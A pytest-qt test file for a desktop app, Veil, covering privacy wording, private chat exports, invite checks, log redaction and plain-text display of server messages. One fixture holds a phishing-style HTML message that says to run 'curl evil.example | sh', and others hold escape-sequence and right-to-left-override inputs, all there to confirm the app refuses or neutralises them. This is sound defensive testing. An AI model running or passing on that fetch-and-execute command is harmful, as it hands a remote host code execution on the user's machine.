"""The app on day one, second pass (issue 30, problems 6-11; issue 29, defect 7), pytest-qt,
offscreen, tiny model: privacy words that agree with each other and with the figures, private
chat exports named after the chat, a new invite tried before it replaces a working server, one
Veil per data folder, the memory gauge that counts the built-in server, the smaller items, the
log file that never holds what the user wrote, and server text shown as plain text."""

from __future__ import annotations

import logging
import os
import stat
import subprocess
import sys
import textwrap
import threading
from pathlib import Path
from typing import Any

import pytest

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

from PySide6.QtCore import Qt
from PySide6.QtGui import QColor, QImage
from PySide6.QtWidgets import QApplication, QFileDialog, QMessageBox

from app.core.settings import MODE_SERVER
from engine.errors import VeilError
from engine.protocol import make_invite
from tests.gui_support import local_window, theme_reset
from tests.test_gui_app import (  # noqa: F401
    FAST,
    WAIT_MS,
    open_window,
    send,
    server,
    tiny,
    wait_idle,
)

pytestmark = pytest.mark.gui


# --- 30.6: one vocabulary, words that match the figures, the reply as plain as the prompt ------


def _save_audit(name: str, n_layers: int = 6) -> None:
    from engine.audit.store import save_results

    rows = [
        {"k": 1, "attack": "known_weights", "side": "input", "top1": 1.0, "top1_ci": [1, 1]},
        {
            "k": 1, "attack": "public_tail", "side": "output", "top1": 0.317,
            "top1_ci": [0.28, 0.36], "top5": 0.566, "pii_top1": 0.303,
            "top1_generated": 1.0, "top1_generated_ci": [1.0, 1.0],
        },
        {"k": 2, "attack": "mlp", "side": "input", "top1": 0.6, "top1_ci": [0.5, 0.7]},
    ]  # fmt: skip
    save_results({"model": name, "date": "2026-12-01", "n_layers": n_layers, "results": rows})


def test_privacy_words_follow_the_figures() -> None:
    from app.core.audit_info import AuditFigure
    from app.core.privacy import describe, setting_words, welcome_text

    def sentence(top1: float) -> str:
        return describe(30, 2, AuditFigure(2, top1, "known_weights (input)", "2026-12-02")).sentence

    assert "all of what you type" in sentence(1.0) and "all of" in sentence(0.95)
    assert "most of what you type" in sentence(0.94) and "some of" in sentence(0.3)
    assert setting_words(30, 1) == "2 of 30 layers on this computer (1 at each end)"
    assert setting_words(30, 15) == "all 30 layers on this computer"
    v = describe(30, 2, AuditFigure(2, 1.0, "known_weights (input)", "2026-12-02"), 1.0)
    assert "all of Veil's replies" in v.reply and "100% of reply words" in v.reply
    assert v.reply in welcome_text(v) and v.reply in v.accessible
    # with no audit the reply is still named: the public tail reads every word of it
    unknown = describe(30, 2, None)
    assert unknown.level == "Unknown" and "every word of Veil's replies" in unknown.reply
    assert describe(30, 15, None).reply == ""  # nothing is sent: nothing to read


def test_panel_details_and_question_use_one_vocabulary(qtbot: Any, tiny: Path, tmp_path: Path):  # noqa: F811
    from app.views.audit_dialog import AuditDialog

    w = local_window(qtbot, tiny, tmp_path, k=1)
    _save_audit(w.app.model_name())
    p = w.privacy
    p.refresh()
    assert p.summary.text().startswith("2 of 6 layers on this computer (1 at each end)")
    assert "all of what you type" in p.sentence.text() and "100%" in p.audit.text()
    assert "all of Veil's replies" in p.reply.text() and not p.reply.isHidden()
    assert "all of Veil's replies" in w.chat_view.welcome.text()

    w.open_audit_details = lambda: None  # type: ignore[method-assign]
    from app.core import audit_info

    name = w.app.model_name()
    dlg = AuditDialog(name, "2026-12-01", audit_info.rows(name, 6), 1, w, n_layers=6)
    qtbot.addWidget(dlg)
    intro = " ".join(lb.text() for lb in dlg.findChildren(type(p.summary)))
    assert "current setting (2 of 6 layers on this computer (1 at each end))" in intro
    head = [dlg.table.horizontalHeaderItem(c).text() for c in range(dlg.table.columnCount())]
    assert head[0] == "Layers on this computer" and "Layers here" not in head
    rows = {
        (dlg.table.item(r, 1).text(), dlg.table.item(r, 2).text()): r
        for r in range(dlg.table.rowCount())
    }
    tail = rows[("Finishing the model itself", "The reply")]
    assert dlg.table.item(tail, 0).text() == "2 of 6 (1 at each end)"
    assert dlg.table.item(tail, 3).text() == "100.0%"  # the reply's words, not 31.7%
    assert "31.7%" in dlg.table.item(tail, 3).toolTip()
    assert dlg.table.item(tail, 5).text() == "-"  # top-5 of other text would read as lower

    w.privacy.slider.setValue(3)  # all 6 layers here: the audit's question says so
    assert "current setting (all 6 layers on this computer)" in w.audit_question([1, 2], 60)
    w.close()


# --- 30.7 and 30.10: exports are private and named after the chat ------------------------------


def test_chat_export_is_private_and_named_after_the_title(
    qtbot: Any,
    tiny: Path,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):
    w = local_window(qtbot, tiny, tmp_path)
    send(qtbot, w, "Write a polite reminder about Friday's team meeting, please")
    wait_idle(qtbot, w)
    out = tmp_path / "out"
    out.mkdir()
    asked: list[str] = []

    def fake_save(_parent: Any, _title: str, start: str, _filters: str) -> tuple[str, str]:
        asked.append(start)
        return str(out / f"chat{len(asked)}"), "Formatted text (*.md)"

    monkeypatch.setattr(QFileDialog, "getSaveFileName", fake_save)
    old = os.umask(0o022)  # a usual desktop umask: 0644 unless the export asks for less
    try:
        w.chat_view.export()
        monkeypatch.setattr(
            QFileDialog, "getSaveFileName", lambda *_a: (str(out / "c.json"), "Data (*.json)")
        )
        w.chat_view.export()
    finally:
        os.umask(old)
    for f in (out / "chat1.md", out / "c.json"):
        assert stat.S_IMODE(f.stat().st_mode) == 0o600, f
    assert Path(asked[0]).name == "Write a polite reminder about Friday's.md"  # no "…"
    w.close()


def test_export_names() -> None:
    from app.core.chat import title_from
    from app.views.export import safe_name

    assert title_from("Write a polite reminder about the Fridays now") == (
        "Write a polite reminder about the…"  # never half a word
    )
    assert safe_name("Budget: Q3/Q4 <draft>…") == "Budget- Q3-Q4 -draft"
    assert safe_name("…") == "Untitled" and len(safe_name("word " * 40)) <= 80


# --- 30.8: a new invite is tried before it is saved --------------------------------------------


def test_invite_check_tells_nothing_there_from_a_wrong_key(server: Any) -> None:  # noqa: F811
    import zmq

    from app.core import invite_check as ic
    from engine.local_server import free_port

    right = make_invite(server.address, server.server_public_key)
    wrong = make_invite(server.address, zmq.curve_keypair()[0].decode())
    closed = make_invite(f"tcp://127.0.0.1:{free_port()}", server.server_public_key)
    assert ic.check_invite_server(right, server.client_keys).kind == ic.OK
    stranger = tuple(k.decode() for k in zmq.curve_keypair())
    r = ic.check_invite_server(right, stranger)  # type: ignore[arg-type]
    assert r.kind == ic.NOT_ALLOWED and "does not let this computer in" in r.message
    r = ic.check_invite_server(wrong, server.client_keys)
    assert r.kind == ic.KEY_MISMATCH and "does not match the invite" in r.message
    r = ic.check_invite_server(closed, server.client_keys)
    assert r.kind == ic.NOTHING_LISTENS and "Nothing listens" in r.message
    r = ic.check_invite_server("veil1:abc")
    assert r.kind == ic.BAD_CODE and "damaged" in r.message


def test_settings_keeps_the_working_server_until_the_new_one_answers(
    qtbot: Any,
    tiny: Path,  # noqa: F811
    server: Any,  # noqa: F811
    tmp_path: Path,
):
    import zmq

    from app.core.invite_check import check_invite_server
    from app.views.settings_dialog import SettingsDialog
    from engine.local_server import free_port

    w = local_window(qtbot, tiny, tmp_path)
    before = (w.app.settings.mode, w.app.settings.invite)

    def check(code: str) -> Any:  # this computer's key is the one the server allows
        return check_invite_server(code, server.client_keys)

    dlg = SettingsDialog(w.app.settings, w, check=check)
    qtbot.addWidget(dlg)
    dlg.show()
    dlg.server_radio.setChecked(True)
    attempts = {
        "does not match the invite": make_invite(server.address, zmq.curve_keypair()[0].decode()),
        "Nothing listens": make_invite(f"tcp://127.0.0.1:{free_port()}", server.server_public_key),
    }
    for said, code in attempts.items():
        dlg.invite.setText(code)
        assert "Save checks" in dlg.invite_status.text()  # no green tick for a mere format
        dlg._save()
        assert (
            dlg.invite_status.text() == "Checking the server…" and not dlg.save_button.isEnabled()
        )
        qtbot.waitUntil(lambda: dlg.save_button.isEnabled(), timeout=WAIT_MS)
        text = dlg.invite_status.text()
        assert dlg.result_settings is None and said in text and "keeps using" in text, text
        assert dlg.invite_status.objectName() == "FieldError"
        assert (w.app.settings.mode, w.app.settings.invite) == before  # nothing switched
    good = make_invite(server.address, server.server_public_key)
    dlg.invite.setText(good)
    dlg._save()
    qtbot.waitUntil(lambda: dlg.result_settings is not None, timeout=WAIT_MS)
    assert dlg.result_settings.mode == MODE_SERVER and dlg.result_settings.invite == good
    w.close()


# --- 30.9: one Veil per data folder; memory that counts the built-in server -------------------

SECOND_START = """
import sys
import engine.local_server as ls

def no_second_server(*a, **k):
    print("A SECOND BUILT-IN SERVER WAS STARTED", flush=True)
    sys.exit(9)

ls.start_local_trunk = no_second_server
from app.main_window import main
sys.exit(main(["--data-dir", {folder!r}]))
"""


def test_second_start_shows_the_running_veil(qtbot: Any, tmp_path: Path) -> None:
    from app import single_instance

    folder = tmp_path / "data"
    folder.mkdir()
    guard = single_instance.claim(folder)
    assert guard is not None
    shown: list[int] = []
    guard.activated.connect(lambda: shown.append(1))
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "VEIL_DATA_DIR": ""}
    root = Path(__file__).resolve().parents[1]
    proc = subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(SECOND_START.format(folder=str(folder)))],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=root,
    )  # fmt: skip
    qtbot.waitUntil(lambda: proc.poll() is not None, timeout=120_000)  # answers meanwhile
    out, err = proc.communicate()
    assert proc.returncode == 0, err[-2000:]
    assert "SECOND BUILT-IN SERVER" not in out and "already open" in err
    assert shown == [1]
    guard.release()
    again = single_instance.claim(folder)  # released: the next start runs
    assert again is not None
    again.release()


def test_memory_gauge_counts_the_built_in_server(
    qtbot: Any,
    tiny: Path,  # noqa: F811
    server: Any,  # noqa: F811
    tmp_path: Path,
):
    from app.core import gauges

    own, label = gauges.process_memory_bytes("cpu")
    both, label2 = gauges.process_memory_bytes("cpu", [server.proc.pid])
    assert label == gauges.RSS_LABEL and label2 == gauges.RSS_SERVER_LABEL
    assert both > own
    w = open_window(qtbot, tiny, server, tmp_path)
    send(qtbot, w, "hello")
    wait_idle(qtbot, w)
    assert w.app.host.helper_pids() == [server.proc.pid]
    w.gauges._tick()
    assert w.gauges.memory_name.text() == gauges.RSS_SERVER_LABEL
    assert "built-in server" in w.gauges.memory_note.text()
    w.close()


# --- 30.10: the smaller ones -------------------------------------------------------------------


def test_start_up_bar_moves(qtbot: Any, tiny: Path, tmp_path: Path):  # noqa: F811
    w = local_window(qtbot, tiny, tmp_path)
    w.show_progress("preparing kernels", 0.0)  # a step that reports no fraction: busy
    assert w.progress_bar.maximum() == 0 and w.status.text() == "Preparing kernels…"
    w.show_progress("converting the model", 0.4)
    assert (w.progress_bar.maximum(), w.progress_bar.value()) == (100, 40)
    w.close()


def test_new_setting_note_goes_once_a_message_uses_it(qtbot: Any, tiny: Path, tmp_path: Path):  # noqa: F811
    w = local_window(qtbot, tiny, tmp_path, max_tokens=64)
    send(qtbot, w, "hello")
    wait_idle(qtbot, w)
    w.privacy.slider.setValue(2)
    assert not w.privacy.note.isHidden()
    send(qtbot, w, "The quick brown fox jumps over the lazy dog")
    assert w.app.chat.busy and w.privacy.note.isHidden()  # while the reply is written
    wait_idle(qtbot, w)
    w.privacy.slider.setValue(1)  # a change made now waits for the next message: said so
    assert not w.privacy.note.isHidden()
    w.close()


def test_list_highlight_is_the_open_chat(qtbot: Any, tiny: Path, tmp_path: Path):  # noqa: F811
    w = local_window(qtbot, tiny, tmp_path)
    chat = w.app.chat
    first = chat.new_conversation()
    second = chat.new_conversation()
    chat.open(first)
    w.sidebar.search.setText("New")  # after a search too
    lst = w.sidebar.chat_list
    lst.setFocus()
    qtbot.keyClick(lst, Qt.Key.Key_Up)
    qtbot.waitUntil(lambda: chat.current == second, timeout=WAIT_MS)
    assert lst.currentItem().data(Qt.ItemDataRole.UserRole) == chat.current
    assert [i.data(Qt.ItemDataRole.UserRole) for i in lst.selectedItems()] == [second]
    w.close()


def test_delete_asks_with_no_as_default_and_ctrl_q_quits(
    qtbot: Any,
    tiny: Path,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):
    w = local_window(qtbot, tiny, tmp_path)
    chat = w.app.chat
    conv = chat.new_conversation()
    asked: list[Any] = []

    def question(*args: Any) -> Any:
        asked.append(args)
        return QMessageBox.StandardButton.No

    monkeypatch.setattr(QMessageBox, "question", question)
    w.sidebar.delete(conv, True)
    assert asked and asked[0][-1] == QMessageBox.StandardButton.No
    assert chat.store.conversation(conv) is not None
    qtbot.keyClick(w, Qt.Key.Key_Q, Qt.KeyboardModifier.ControlModifier)
    assert not w.isVisible()


def test_model_field_shows_the_whole_name_at_13_pt(qtbot: Any, tiny: Path, tmp_path: Path):  # noqa: F811
    from app.views.settings_dialog import SettingsDialog
    from app.views.theme import Theme
    from engine.loading import DEFAULT_MODEL

    w = local_window(qtbot, tiny, tmp_path)
    qapp = QApplication.instance()
    assert isinstance(qapp, QApplication)
    try:
        Theme.apply(qapp, "light", 13)
        s = w.app.settings
        s.model = DEFAULT_MODEL
        dlg = SettingsDialog(s, w)
        qtbot.addWidget(dlg)
        dlg.show()
        dlg.tabs.setCurrentIndex(1)
        qtbot.waitUntil(lambda: dlg.model.isVisible(), timeout=WAIT_MS)
        field = dlg.model
        assert field.cursorPosition() == 0  # the start of the name, not ":ruct"
        assert field.width() > field.fontMetrics().horizontalAdvance(DEFAULT_MODEL)
    finally:
        theme_reset()
    w.close()


def test_a_reply_waiting_for_the_audit_says_why(
    qtbot: Any,
    tiny: Path,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):
    from app.core import audit_info

    release = threading.Event()

    def slow_audit(_model: str, _ks: Any, _progress: Any, cancelled: Any) -> dict[str, Any]:
        while not release.wait(0.05):
            if cancelled():
                break
        return {}

    monkeypatch.setattr(audit_info, "run_blocking", slow_audit)
    monkeypatch.setattr(audit_info, "audit_runner_available", lambda: True)
    w = local_window(qtbot, tiny, tmp_path)
    w.ask_yes = lambda *_a: True  # type: ignore[method-assign]
    w.run_audit()
    assert w._audit_task is not None
    send(qtbot, w, "hello")
    banner = w.chat_view.error
    assert banner.isVisible() and "Waiting for the privacy audit to finish" in banner.text()
    assert banner.action.text() == "Cancel audit"
    release.set()
    wait_idle(qtbot, w)
    assert banner.isHidden() and w.app.chat.messages()[-1].content
    w.close()


def _ring_pixels(widget: Any, color: str) -> int:
    """Pixels of ``color`` (the theme's accent) drawn in ``widget``."""
    img: QImage = widget.grab().toImage()
    want = QColor(color)
    n = 0
    for y in range(img.height()):
        for x in range(img.width()):
            c = img.pixelColor(x, y)
            if (
                abs(c.red() - want.red())
                + abs(c.green() - want.green())
                + abs(c.blue() - want.blue())
                < 30
            ):
                n += 1
    return n


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_keyboard_focus_is_visible_on_the_chat_list(
    qtbot: Any,
    tiny: Path,  # noqa: F811
    tmp_path: Path,
    theme: str,
):
    from app.views.theme import Theme

    w = local_window(qtbot, tiny, tmp_path)
    qapp = QApplication.instance()
    assert isinstance(qapp, QApplication)
    try:
        Theme.apply(qapp, theme, 10)
        chat = w.app.chat
        for _ in range(2):
            chat.new_conversation()
        lst = w.sidebar.chat_list
        w.chat_view.composer.setFocus()
        without = _ring_pixels(lst, Theme.color("accent"))
        lst.setFocus()
        qtbot.waitUntil(lst.hasFocus, timeout=WAIT_MS)
        with_focus = _ring_pixels(lst, Theme.color("accent"))
        ring = 2 * lst.visualItemRect(lst.currentItem()).width()  # two edges, at least
        assert with_focus - without >= ring, (theme, without, with_focus)
    finally:
        theme_reset()
    w.close()


# --- 30.11: the log file, and About -----------------------------------------------------------


def test_log_file_never_holds_chat_text_or_keys(
    qtbot: Any,
    tiny: Path,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):
    from app.core import logfile
    from app.core.tasks import user_error
    from app.views import about_dialog
    from app.views.about_dialog import AboutDialog
    from tests.fixed_keys import PLAIN_KEYS

    logs = tmp_path / "logs"
    monkeypatch.setenv("VEIL_LOG_DIR", str(logs))
    logfile.shutdown()
    path = logfile.setup()
    try:
        assert path == logs / "veil.log" and logfile.current() == path
        w = local_window(qtbot, tiny, tmp_path / "data")
        secret = "Settlement for Ingrid Okonkwo is 48213 dollars, signed on the ninth of May"
        send(qtbot, w, secret)
        wait_idle(qtbot, w)
        key = PLAIN_KEYS[0][1]
        invite = make_invite("tcp://10.0.0.7:5757", PLAIN_KEYS[1][0])
        log = logging.getLogger("veil.app")
        log.warning("could not send %s with key %s (invite %s)", secret, key, invite)
        try:  # an internal error whose message quotes the chat: the traceback is kept
            raise RuntimeError("bad token near 'Okonkwo is 48213 dollars, signed on'")
        except RuntimeError as exc:
            user_error(exc)
        for h in logging.getLogger().handlers:
            h.flush()
        text = path.read_text(encoding="utf-8")
        assert "could not send" in text and "internal error" in text and "Traceback" in text
        for private in (secret, "Okonkwo is 48213 dollars", key, invite, PLAIN_KEYS[1][0]):
            assert private not in text, private
        assert "48213" not in text and "Ingrid" not in text
        if os.name == "posix":
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
            assert stat.S_IMODE(logs.stat().st_mode) == 0o700

        opened: list[Path] = []
        monkeypatch.setattr(about_dialog, "open_folder", lambda f: opened.append(f) or True)
        dlg = AboutDialog(w.app.folder, logfile.current(), logfile.log_dir(), w)
        qtbot.addWidget(dlg)
        assert str(path) in dlg.log_text.text()
        assert "wrong results on purpose" in dlg.server_text.text()
        assert "cannot notice it or warn you" in dlg.server_text.text()
        qtbot.mouseClick(dlg.open_log, Qt.MouseButton.LeftButton)
        assert opened == [logs]
        w.close()
    finally:
        logfile.shutdown()


def test_f1_opens_about(qtbot: Any, tiny: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # noqa: F811
    from app import main_window

    w = local_window(qtbot, tiny, tmp_path)
    seen: list[str] = []
    monkeypatch.setattr(main_window, "run_modal", lambda dlg: seen.append(dlg.windowTitle()) or 0)
    qtbot.keyClick(w, Qt.Key.Key_F1)
    qtbot.mouseClick(w.sidebar.about_button, Qt.MouseButton.LeftButton)
    assert seen == ["About Veil", "About Veil"]
    w.close()


# --- 29.7: server text is plain text; invites with markup or hidden characters are refused ----

HTML = (
    '<h1 style="color:green">Security update required</h1><p>Run <b>curl evil.example | sh</b></p>'
)


def test_server_message_with_html_shows_literally(
    qtbot: Any,
    tiny: Path,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):
    from engine import protocol as P
    from tests.fake_trunk import FakeTrunk

    class HtmlTrunk(FakeTrunk):
        def _answer(self, msg: P.Message) -> list[list[Any]]:
            if isinstance(msg, P.Step):
                return [
                    P.encode(P.Error(P.E_INTERNAL, HTML + "\x1b[31m\u202e", msg.session, msg.step))
                ]
            return super()._answer(msg)

    monkeypatch.setenv("VEIL_KEYRING", "memory")
    with HtmlTrunk("echo") as fake:
        w = local_window(qtbot, tiny, tmp_path)
        s = type(w.app.settings)(**vars(w.app.settings))
        s.mode, s.invite = MODE_SERVER, fake.invite
        w.apply_settings(s)
        qtbot.waitUntil(lambda: w.app.executor.pending == 0, timeout=WAIT_MS)
        send(qtbot, w, "hello")
        qtbot.waitUntil(lambda: w.chat_view.error.isVisible(), timeout=WAIT_MS)
        title = w.chat_view.error.title
        assert title.textFormat() == Qt.TextFormat.PlainText
        assert "<h1" in title.text() and "curl evil.example" in title.text()
        assert "\x1b" not in title.text() and "\u202e" not in title.text()
        wait_idle(qtbot, w)
        w.close()
    # the status line and tooltips never draw a server's HTML either
    from app.views.elided_label import ElidedLabel, plain_tooltip

    label = ElidedLabel(HTML)
    qtbot.addWidget(label)
    assert label.textFormat() == Qt.TextFormat.PlainText
    assert "&lt;h1" in plain_tooltip(HTML) and "<h1" not in plain_tooltip(HTML)


@pytest.mark.parametrize(
    ("address", "said"),
    [
        ("tcp://<b>evil</b>:5757", "HTML"),
        ("tcp://evil\x1b[31m.example:5757", "terminal escape code"),
        ("tcp://evil\u202eexample:5757", "right-to-left override"),
        ("tcp://evil\x07:5757", "control characters"),
        ("tcp://evil example:5757", "tcp://HOST:PORT"),
        ("tcp://evil.example:99999", "port"),
    ],
)
def test_invites_with_markup_or_hidden_characters_are_refused(
    qtbot: Any,
    tiny: Path,  # noqa: F811
    tmp_path: Path,
    address: str,
    said: str,
):
    from app.core.invite import invite_problem
    from app.views.settings_dialog import SettingsDialog

    code = make_invite(address, "k" * 40)
    problem = invite_problem(code)
    assert problem is not None and said in problem
    w = local_window(qtbot, tiny, tmp_path)
    dlg = SettingsDialog(w.app.settings, w)
    qtbot.addWidget(dlg)
    dlg.server_radio.setChecked(True)
    dlg.invite.setText(code)
    dlg._save()
    assert dlg.result_settings is None
    shown = dlg.invite_status.text()
    assert said in shown and "Ask your IT department for a new code." in shown
    assert dlg.invite_status.textFormat() == Qt.TextFormat.PlainText
    with pytest.raises(VeilError):
        s = type(w.app.settings)(**vars(w.app.settings))
        s.mode, s.invite = MODE_SERVER, code
        s.validate()
    for ok in ("tcp://10.0.0.7:5757", "tcp://trunk.example.org:5757", "tcp://[::1]:5757"):
        assert invite_problem(make_invite(ok, "k" * 40)) is None
    w.close()
